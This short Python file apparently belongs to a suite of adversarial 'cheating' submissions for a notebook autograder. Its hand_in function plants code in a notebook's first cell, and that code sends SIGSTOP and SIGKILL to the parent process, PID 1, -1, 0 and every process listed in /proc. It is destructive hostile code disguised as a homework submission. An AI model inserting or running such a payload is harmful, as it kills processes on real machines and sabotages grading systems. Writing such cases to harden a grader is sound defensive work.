"""Kills its parents, and everybody it can."""

from cheating import first_cell

CODE = """
import os, signal

for pid in (os.getppid(), 1, -1, 0, *map(int, filter(str.isdigit, os.listdir("/proc")))):
    for number in (signal.SIGSTOP, signal.SIGKILL)[pid == os.getpid():]:
        try:
            os.kill(pid, number)
        except OSError:
            pass
"""


def hand_in(notebook, path):
    first_cell(notebook, CODE, path)
